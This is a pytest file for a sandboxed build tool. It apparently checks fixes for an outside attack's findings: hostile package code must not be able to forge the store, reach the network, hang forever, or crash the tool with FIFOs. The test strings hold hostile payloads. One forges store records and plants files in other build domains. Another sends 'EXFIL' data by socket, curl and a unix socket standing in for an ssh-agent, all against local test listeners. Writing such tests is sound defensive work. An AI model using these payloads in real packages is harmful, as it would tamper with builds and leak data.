"""A hostile stranger's package (issue 41, the outside attack's findings F1, F2, F3, F5): its setup.py under
``recipe new`` and its ``__init__.py`` under realize's import check run in the sandbox, where the root's
records (store, profiles, gc roots, receipts, the marker, derived state) are read-only and there is no network;
a setup.py that never ends is stopped at ``--timeout``; a source folder holding a FIFO or a socket is bad input.

Each hostile act is tried for real by the package's own code, and what it met is written where children may
write (the root's home/), for the test to read; decoys are only under the test's tmp_path.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from tests.support import cli
from tests.support.builds import linked_root
from tests.support.trees import plant_special
from tests.test_stranger import FILES, SETUP_PY, _project, make_sdist, stranger_recipe

# What the package's code tries against the root (found from HOME, which hermetic points at ROOT/home): every
# write into hermetic's records, and, as a control, a write into its own scratch (tmp/); the errno each met
# (0: written) goes to HOME/<report>.
ATTEMPTS = """\
import glob as _g, json as _j, os as _o
def _attempts(report):
    root = _o.environ["HOME"].split("/home/.sandboxed/")[0]
    met = {"HOME": _o.environ["HOME"], "PYTHONPYCACHEPREFIX": _o.environ["PYTHONPYCACHEPREFIX"],
           "TMPDIR": _o.environ["TMPDIR"]}
    def _try(what, fn):
        try:
            fn()
            met[what] = 0
        except OSError as e:
            met[what] = e.errno
    def _write(p, mode="w"):
        def fn():
            with open(p, mode) as f:
                f.write("planted by the package\\n")
        return fn
    meta = sorted(_g.glob(root + "/store/entries/*/meta.json"))
    blobs = sorted(_g.glob(root + "/store/blobs/*/*"))
    _try("new blob", _write(root + "/store/blobs/forged-blob"))
    _try("meta.json", _write(meta[0], "a") if meta else _write(root + "/store/entries/x/meta.json"))
    _try("blob in place", _write(blobs[0], "a") if blobs else _write(root + "/store/blobs/y"))
    _try("store tmp", _write(root + "/store/tmp/forged-entry"))
    _try("profile", lambda: _o.symlink("/tmp", root + "/profiles/forged"))
    _try("gc root", _write(root + "/roots/forged.json"))
    _try("receipt", _write(root + "/receipts/forged.json"))
    _try("marker", _write(root + "/HERMETIC_ROOT", "a"))
    _try("state", _write(root + "/state/forged"))
    _try("env's bytecode", _write(root + "/home/.cache/pycache/json.cpython-311.pyc"))
    _try("env's gitconfig", _write(root + "/home/.gitconfig"))
    def _kernels():   # a runner's kernel cache (made by its run, or here): EROFS either way
        _o.makedirs(root + "/state/kernels-v2/run-victim", exist_ok=True)
        _write(root + "/state/kernels-v2/run-victim/forged")()
    _try("kernel cache", _kernels)
    _try("env's tmp", lambda: _o.symlink("/tmp/nvcc-temp", root + "/home/tmp/tmpxft_00001234_00000000-2.cpp"))
    _try("another's home", _write(root + "/home/.sandboxed/recipe-victim/planted"))
    _try("another's build", _write(root + "/build/victim/build.ninja"))
    _try("tmp (its scratch)", _write(root + "/tmp/hostile-was-here"))
    _try("its home", _write(_o.environ["HOME"] + "/hostile-was-here"))
    def _unix():
        import socket as _s
        u = _s.socket(_s.AF_UNIX)
        u.settimeout(3)
        u.connect(root + "/tmp/agent.sock")
    _try("unix socket", _unix)
    with open(root + "/tmp/" + report, "w") as f:
        _j.dump(met, f)
"""
# the re-attacks on issues 39 and 41: home/ (`hermetic env`'s, unconfined), another domain's home and another
# recipe's build folder were writable to every child, and what was planted there ran later
RECORDS = ("new blob", "meta.json", "blob in place", "store tmp", "profile", "gc root", "receipt", "marker", "state",
           "env's bytecode", "env's gitconfig", "env's tmp", "another's home", "another's build", "kernel cache")


def _store_files(root: Path) -> dict[str, tuple[int, int]]:
    """Every file of the store's blobs and entries, the profiles, roots, receipts and the marker: size, mtime."""
    found = {}
    for top in ("store/blobs", "store/entries", "profiles", "roots", "receipts"):
        for dirpath, _dirs, files in os.walk(root / top):
            for f in files:
                st = os.lstat(os.path.join(dirpath, f))
                found[os.path.join(dirpath, f)] = (st.st_size, st.st_mtime_ns)
    st = os.lstat(root / "HERMETIC_ROOT")
    found["HERMETIC_ROOT"] = (st.st_size, st.st_mtime_ns)
    return found


def _report(root: Path, report: str) -> dict[str, Any]:
    """What the package's code wrote to the root's tmp/ (its scratch, writable to it)."""
    met: dict[str, Any] = json.loads((root / "tmp" / report).read_text())
    (root / "tmp" / report).unlink()
    return met


def _met(root: Path, report: str) -> dict[str, Any]:
    met = _report(root, report)
    home = str((root / "home").resolve())   # the children's home is their own, never `hermetic env`'s
    assert met["HOME"].startswith(home + "/.sandboxed/") and met["PYTHONPYCACHEPREFIX"].startswith(met["HOME"] + "/")
    assert met["TMPDIR"] == met["HOME"] + "/tmp", met   # a compiler's intermediate files: the domain's own
    assert met["its home"] == 0, met
    # an ssh-agent's socket is out of reach of setup.py and, since the re-attack (R3), of the import check
    assert met["unix socket"] == errno.EACCES, met
    return met


def _victims(root: Path) -> None:
    """What the records above name of another trust domain: a recipe's home and build folder (present)."""
    for folder in (root / "home" / ".sandboxed" / "recipe-victim", root / "build" / "victim", root / "home" / ".cache"
                   / "pycache", root / "home" / "tmp"):
        folder.mkdir(parents=True, exist_ok=True)


def _verify_all_valid(root: Path) -> None:
    v = cli.run(root, "verify", env=dict(os.environ))
    assert v.rc == 0 and "all valid" in v.err, v.err[-2000:]


def test_setup_py_under_recipe_new_cannot_rewrite_the_roots_records(tmp_path: Path, shared_root: Path) -> None:
    """F2: setup.py tries to forge the store (a new blob, an entry's meta.json, a blob in place, a profile, a gc
    root, a receipt, the marker, derived state): each write meets EROFS, its scratch (tmp/) stays writable,
    and afterwards the store is as it was and verify says all valid. (Before the fix every write landed.)"""
    _victims(shared_root)
    before = _store_files(shared_root)
    sdist, _sha = make_sdist(tmp_path / "dist", {**FILES, "setup.py": ATTEMPTS + "_attempts('setup-py.json')\n"
                                                 + SETUP_PY})
    r = cli.run(shared_root, "recipe", "new", sdist, "-o", tmp_path / "r.toml", env=dict(os.environ))
    assert r.rc == 0, r.err[-3000:]
    met = _met(shared_root, "setup-py.json")
    assert {k: met[k] for k in RECORDS} == dict.fromkeys(RECORDS, errno.EROFS), met
    assert met["tmp (its scratch)"] == 0, met
    assert _store_files(shared_root) == before
    assert not (shared_root / "store" / "blobs" / "forged-blob").exists()
    _verify_all_valid(shared_root)


def test_the_import_check_cannot_rewrite_the_roots_records(tmp_path: Path, shared_root: Path) -> None:
    """F2b: the package's __init__.py, imported by realize's import check, tries the same forgery: each write
    meets EROFS, the realize succeeds, its receipt says the records were read-only and the network none, and
    verify says all valid. (Before the fix every write landed.)"""
    init = ATTEMPTS + "_attempts('import-check.json')\n" + FILES["minipkg/__init__.py"]
    sdist, sha = make_sdist(tmp_path / "dist", {**FILES, "minipkg/__init__.py": init})
    recipe = _project(tmp_path / "p", stranger_recipe(sdist, sha).replace('name = "minipkg"\n',
                                                                          'name = "minipkg-hostile"\n', 1))
    _victims(shared_root)
    r = cli.run(shared_root, "realize", recipe, "--json", env=dict(os.environ))
    assert r.rc == 0, r.err[-4000:]
    met = _met(shared_root, "import-check.json")
    assert met["HOME"].endswith("/.sandboxed/recipe-minipkg-hostile"), met
    assert {k: met[k] for k in RECORDS} == dict.fromkeys(RECORDS, errno.EROFS), met
    sandbox = json.loads(Path(r.result["receipt"]).read_text())["sandbox"]
    assert sandbox["used"] and sandbox["network"] == "none", sandbox
    assert str((shared_root / "store").resolve()) in sandbox["read_only"], sandbox
    before = _store_files(shared_root)
    _verify_all_valid(shared_root)
    assert _store_files(shared_root) == before


NET_SETUP_PY = """\
import json, os, socket, subprocess
met = {}
try:
    socket.create_connection(("127.0.0.1", int(os.environ["HOSTILE_PORT"])), timeout=3).sendall(b"EXFIL")
    met["socket"] = 0
except OSError as e:
    met["socket"] = e.errno
try:
    u = socket.socket(socket.AF_UNIX)
    u.settimeout(3)
    u.connect(os.environ["HOSTILE_SOCK"])
    u.sendall(b"EXFIL-unix")
    met["unix"] = 0
except OSError as e:
    met["unix"] = e.errno
met["curl"] = subprocess.run(["curl", "-s", "-m", "3", "http://127.0.0.1:" + os.environ["HOSTILE_PORT"] + "/curl"],
                             capture_output=True).returncode
open(os.environ["HOME"].split("/home/.sandboxed/")[0] + "/tmp/net.json", "w").write(json.dumps(met))
""" + SETUP_PY


def test_setup_py_under_recipe_new_has_no_network(tmp_path: Path, shared_root: Path) -> None:
    """F1: setup.py connects (a raw socket, curl) to a listener this test runs on loopback, outside the
    sandbox, and (F1d) to a unix socket on the file system, as an ssh-agent's: the listeners see no
    connection and setup.py's connects fail. (Before the fix all three arrived.)"""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    agent = socket.socket(socket.AF_UNIX)
    agent.bind(str(tmp_path / "agent.sock"))
    agent.listen(5)
    agent.settimeout(0.5)
    seen: list[bytes] = []
    done = threading.Event()

    def listen(listener: socket.socket) -> None:
        while not done.is_set():
            try:
                c, _ = listener.accept()
            except OSError:
                continue
            with c:
                c.settimeout(2)
                try:
                    seen.append(c.recv(100) or b"(connected)")
                except OSError:
                    seen.append(b"(connected)")
    threads = [threading.Thread(target=listen, args=(sock,), daemon=True) for sock in (listener, agent)]
    for t in threads:
        t.start()
    try:
        sdist, _sha = make_sdist(tmp_path / "dist", {**FILES, "setup.py": NET_SETUP_PY})
        r = cli.run(shared_root, "recipe", "new", sdist, "--env", f"HOSTILE_PORT={port}",
                    "--env", f"HOSTILE_SOCK={tmp_path / 'agent.sock'}", env=dict(os.environ))
    finally:
        done.set()
        for t in threads:
            t.join(5)
        listener.close()
        agent.close()
    assert r.rc == 0, r.err[-3000:]
    met = _report(shared_root, "net.json")
    assert seen == [], seen
    assert met["socket"] != 0 and met["curl"] != 0 and met["unix"] == errno.EACCES, met


def test_recipe_new_stops_a_setup_py_that_never_ends(tmp_path: Path, shared_root: Path) -> None:
    """F3: a setup.py that sleeps (and a child it started) is stopped at --timeout: exit 1 naming setup.py and
    the deadline, its scratch folder removed. (Before the fix there was no --timeout, and recipe new waited
    600 s.)"""
    hang = "import subprocess, time\nsubprocess.Popen(['sleep', '600'])\ntime.sleep(600)\n"
    sdist, _sha = make_sdist(tmp_path / "dist", {**FILES, "setup.py": hang})
    start = time.monotonic()
    r = cli.run(shared_root, "recipe", "new", sdist, "--timeout", "3", env=dict(os.environ))
    took = time.monotonic() - start
    assert r.rc == 1, (r.rc, r.err[-2000:])
    assert "setup.py" in r.err and "deadline of 3 s" in r.err and "--timeout" in r.err, r.err[-2000:]
    assert "Traceback" not in r.err
    assert took < 60, took
    assert not [p for p in (shared_root / "tmp").iterdir() if p.name.startswith("recipe-new-")]
    bad = cli.run(shared_root, "recipe", "new", sdist, "--timeout", "0", env=dict(os.environ))
    assert bad.rc == 2 and "'0' is not a number of seconds" in bad.err, bad.err


def test_the_fresh_home_of_a_killed_recipe_new_is_removed_by_gc_and_a_live_one_kept(tmp_path: Path,
                                                                                     shared_root: Path) -> None:
    """`recipe new` runs setup.py in a fresh home (home/.sandboxed/once-*), removed at exit; a kill -9 runs no exit
    handler, so the home stays: the next `gc` (or the next fresh home) removes it, never one whose process lives
    (its lock is held). Before this, such homes were never removed."""
    import fcntl
    import signal
    root = linked_root(shared_root, tmp_path / "root")   # its toolchain: gc there leaves the shared root alone
    hang = "import time\ntime.sleep(600)\n"
    sdist, _sha = make_sdist(tmp_path / "dist", {**FILES, "setup.py": hang})
    boxes = root / "home" / ".sandboxed"
    proc = cli.popen(root, "recipe", "new", sdist, "--timeout", "300", env=dict(os.environ))
    end = time.monotonic() + 120
    while not (left := list(boxes.glob("once-*"))):
        assert proc.poll() is None and time.monotonic() < end, proc.communicate()[1][-2000:]
        time.sleep(0.01)
    live = boxes / "once-1-live"   # another live process's: locked, never touched
    live.mkdir()
    held = os.open(live, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(held, fcntl.LOCK_EX)
    try:
        everything = cli.run(root, "gc", "--all", env=dict(os.environ))   # attack47 row 3: it removed the root
        assert everything.rc == 3 and "another hermetic command is running" in everything.err, everything.err
        assert left[0].is_dir() and (root / "HERMETIC_ROOT").exists()
        os.kill(proc.pid, signal.SIGSTOP)
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate()
        [home] = left
        assert home.is_dir()   # kill -9 runs no exit handler
        gc = cli.run(root, "gc", env=dict(os.environ))
        assert gc.rc == 0 and f"removed {home}, the home of a command that was killed" in gc.err, gc.err[-2000:]
        assert sorted(boxes.glob("once-*")) == [live]
    finally:
        os.close(held)


def test_recipe_new_folder_with_a_fifo_or_a_socket_is_bad_input(tmp_path: Path, shared_root: Path) -> None:
    """F5: a FIFO or a unix socket in the source folder is exit 2 naming it, never an internal error. (Before
    the fix: exit 1, "internal error", a traceback.)"""
    for kind in ("FIFO", "socket"):
        folder = tmp_path / kind
        (folder / "pkg").mkdir(parents=True)
        (folder / "setup.py").write_text(SETUP_PY)
        (folder / "pkg" / "__init__.py").write_text("X = 1\n")
        odd = folder / "pkg" / "odd"
        plant_special(odd, kind)
        r = cli.run(shared_root, "recipe", "new", folder, env=dict(os.environ))
        assert r.rc == 2, (kind, r.rc, r.err[-2000:])
        assert f"a {kind}, not a regular file: {odd}" in r.err, r.err[-2000:]
        assert "internal error" not in r.err and "Traceback" not in r.err


def test_a_build_cluster_keeps_the_network_and_nothing_else_does(monkeypatch: pytest.MonkeyPatch) -> None:
    """F1: realize's sandbox takes the network from its children unless a build cluster compiles (sccache talks
    to its scheduler), chosen as extensions.dist chooses it: one a repository's recipe chose alone is not used,
    and its realize has no network either."""
    from hermetic.config import Config
    from hermetic.realize.pipeline import RealizeOptions, _cluster_needs_network

    class Doc:
        def where(self, *keys: str) -> str:
            return "recipe.toml:3: key remote.dist"

    class R:
        extensions = ("x",)
        remote_dist: str | None = None
        doc = Doc()
    plain, chosen_by_recipe, no_build = R(), R(), R()
    chosen_by_recipe.remote_dist = "http://10.0.0.5:10600"
    no_build.extensions = ()
    monkeypatch.delenv("HERMETIC_DIST", raising=False)
    monkeypatch.setenv("HERMETIC_DIST_TOKEN", "t0ken")

    def why(options: RealizeOptions, recipe: R) -> str:
        return _cluster_needs_network(options, recipe, Config([]))  # type: ignore[arg-type]
    assert why(RealizeOptions(), plain) == ""
    assert why(RealizeOptions(), chosen_by_recipe) == ""                   # the repository's: withheld
    assert "build cluster" in why(RealizeOptions(dist="http://10.0.0.5:10600"), plain)
    assert why(RealizeOptions(dist="off"), chosen_by_recipe) == ""
    assert why(RealizeOptions(dist="http://10.0.0.5:10600"), no_build) == ""
    monkeypatch.setenv("HERMETIC_DIST", "http://10.0.0.6:10600")
    assert "build cluster" in why(RealizeOptions(), plain)
